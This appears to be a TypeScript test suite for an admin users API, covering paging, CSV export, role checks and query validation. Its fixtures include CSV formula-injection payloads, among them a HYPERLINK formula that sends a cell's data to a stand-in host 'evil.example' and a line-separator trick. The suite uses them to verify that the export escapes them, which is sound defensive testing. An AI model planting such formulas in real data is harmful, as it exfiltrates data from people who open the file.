/**
 * GET /api/admin/users pages and CSV through HTTP (embedded app on PGlite): the page contract
 * (page, pageSize, X-Total-Count), the CSV of the whole filtered list or of a page, for admins and
 * auditors only, spreadsheet formulas in user-chosen names escaped, and bad paging refused.
 */
import { expect } from 'chai';
import { randomUUID } from 'node:crypto';
import Papa from 'papaparse';
import { adminUsersResponseSchema } from '@papertrade/domain/admin/contracts';
import { startHarness, type Harness } from '../../../test/api-harness';
import { ADMIN_USERS_CSV_FIELDS } from './admin-routes';

const unique = () => randomUUID().slice(0, 8);
const rowsOf = (csv: string) => Papa.parse<Record<string, string>>(csv, { header: true, skipEmptyLines: true });

describe('admin users list: pages and CSV (HTTP, embedded)', function () {
  this.timeout(60_000);
  let h: Harness;
  let admin: { id: string; token: string };
  let auditorToken: string;
  let freeToken: string;
  /** The three users of this spec, newest first, sharing a last name to search by. */
  let mine: Array<{ userId: string; username: string }>;
  let search: string;

  before(async function () {
    h = await startHarness();
    admin = await h.admin();
    const t = unique();
    search = `Zq${t}`;
    const made: Array<{ userId: string; username: string }> = [];
    for (const [username, firstName] of [
      [`plain_${t}`, 'Ann'],
      // Names a spreadsheet would run as formulas: a username may start with '-', a first name with anything.
      [`-2-3_${t}`, '=cmd()'],
      [`at_${t}`, '@SUM(A1)'],
    ] as const) {
      const { userId } = await h.signup({ email: `${username.replace(/[^a-z0-9_]/gi, 'x')}@example.com`, username, firstName, lastName: search });
      made.push({ userId, username });
    }
    mine = made.reverse();
    await h.signup({ email: `aud.${t}@example.com`, username: `aud_${t}` });
    await h.signup({ email: `free.${t}@example.com`, username: `free_${t}` });
    await h.projector.caughtUp();
    const auditor = (await h.request('GET', `/api/admin/users?q=aud_${t}`, { token: admin.token })).body[0].id as string;
    expect((await h.request('PUT', `/api/admin/users/${auditor}/auditor`, { token: admin.token, body: { auditor: true } })).status).to.equal(200);
    await h.projector.caughtUp();
    auditorToken = await h.login(`aud.${t}@example.com`, 'secret1');
    freeToken = await h.login(`free.${t}@example.com`, 'secret1');
  });
  after(async function () {
    await h?.stop();
  });

  const get = (path: string, token: string, headers: Record<string, string> = {}) => h.request('GET', path, { token, headers });

  it('pages the filtered list as JSON: page and pageSize, every match counted in X-Total-Count', async function () {
    const first = await get(`/api/admin/users?q=${search}&pageSize=2`, admin.token);
    expect(first.status).to.equal(200);
    expect(first.headers.get('x-total-count')).to.equal('3');
    expect(adminUsersResponseSchema.parse(first.body).map((u) => u.id)).to.deep.equal([mine[0]!.userId, mine[1]!.userId]);
    const second = await get(`/api/admin/users?q=${search}&pageSize=2&page=2`, admin.token);
    expect(adminUsersResponseSchema.parse(second.body).map((u) => u.id)).to.deep.equal([mine[2]!.userId]);
  });

  it('answers CSV for ?format=csv or Accept: text/csv: every match without page/pageSize, formulas escaped', async function () {
    for (const res of [await get(`/api/admin/users?q=${search}&format=csv`, admin.token), await get(`/api/admin/users?q=${search}`, admin.token, { accept: 'text/csv' })]) {
      expect(res.status).to.equal(200);
      expect(res.headers.get('content-type')).to.match(/^text\/csv/);
      expect(res.headers.get('content-disposition')).to.match(/^attachment; filename="users-\d{4}-\d{2}-\d{2}\.csv"$/);
      expect(res.headers.get('x-total-count')).to.equal('3');
      const parsed = rowsOf(res.body as string);
      expect(parsed.meta.fields).to.deep.equal([...ADMIN_USERS_CSV_FIELDS]);
      expect(parsed.data.map((r) => r.id)).to.deep.equal(mine.map((u) => u.userId));
      const byId = new Map(parsed.data.map((r) => [r.id, r]));
      // A leading quote: the spreadsheet shows the text instead of running it.
      expect(byId.get(mine[1]!.userId)).to.include({ username: `'${mine[1]!.username}`, firstName: "'=cmd()", lastName: search, subscriptionTier: 'FREE', isAdmin: 'false' });
      expect(byId.get(mine[0]!.userId)).to.include({ firstName: "'@SUM(A1)" });
      expect(byId.get(mine[2]!.userId)).to.include({ username: mine[2]!.username, firstName: 'Ann' });
    }
    const page = await get(`/api/admin/users?q=${search}&format=csv&pageSize=2&page=2`, admin.token);
    expect(page.headers.get('content-disposition')).to.equal('attachment; filename="users-page-2.csv"');
    expect(rowsOf(page.body as string).data.map((r) => r.id)).to.deep.equal([mine[2]!.userId]);
  });

  it('escapes a formula in a name stored before the contracts refused line separators (U+2028 / U+2029)', async function () {
    const t = unique();
    const { userId } = await h.signup({ email: `old.${t}@example.com`, username: `old_${t}`, lastName: `Old${t}` });
    // What an edit before the rule could store: papaparse's escape pattern (`.*$`) stopped at the separator.
    const firstName = '=HYPERLINK("https://evil.example/?d="&A1,"open")\u2028Ann';
    const lastName = '+1\u2029Lee';
    const meta = { userId: admin.id, correlationId: randomUUID(), causationId: randomUUID(), at: new Date().toISOString(), schemaVersion: 1 };
    await h.rt.infra.eventStore.append(
      `user-${userId}`,
      [{ id: randomUUID(), type: 'UserProfileUpdated', data: { userId, changes: { firstName, lastName }, updatedBy: admin.id, updatedAt: meta.at }, metadata: meta }],
      'any',
    );
    await h.projector.caughtUp();
    for (const token of [admin.token, auditorToken]) {
      const res = await get(`/api/admin/users?q=old_${t}&format=csv`, token);
      expect(res.status).to.equal(200);
      const [row] = rowsOf(res.body as string).data;
      expect(row).to.include({ id: userId, firstName: `'${firstName}`, lastName: `'${lastName}` });
    }
  });

  it('lets an auditor download the CSV; a free user gets 403 and a visitor 401', async function () {
    const auditor = await get(`/api/admin/users?q=${search}&format=csv`, auditorToken);
    expect(auditor.status).to.equal(200);
    expect(rowsOf(auditor.body as string).data).to.have.length(3);
    const free = await get('/api/admin/users?format=csv', freeToken);
    expect(free.status).to.equal(403);
    expect(free.body.detail).to.equal('Administrator or auditor access required');
    expect((await h.request('GET', '/api/admin/users?format=csv')).status).to.equal(401);
  });

  for (const [query, detail] of [
    ['page=0', 'page: must be at least 1'],
    ['page=abc', 'page'],
    ['page=1.5', 'page: must be a whole number'],
    ['pageSize=101', 'pageSize: must be at most 100'],
    ['pageSize=0', 'pageSize: must be at least 1'],
    ['format=xml', 'format: must be json or csv'],
    ['format=csv&limit=5', 'limit'],
    ['q=a%00b', 'q: must not contain control characters'],
    ['q=%00&format=csv', 'q: must not contain control characters'],
  ] as const) {
    it(`?${query}: 400 naming ${detail}`, async function () {
      const res = await get(`/api/admin/users?${query}`, admin.token);
      expect(res.status).to.equal(400);
      expect(res.body.detail).to.include(detail);
    });
  }
});
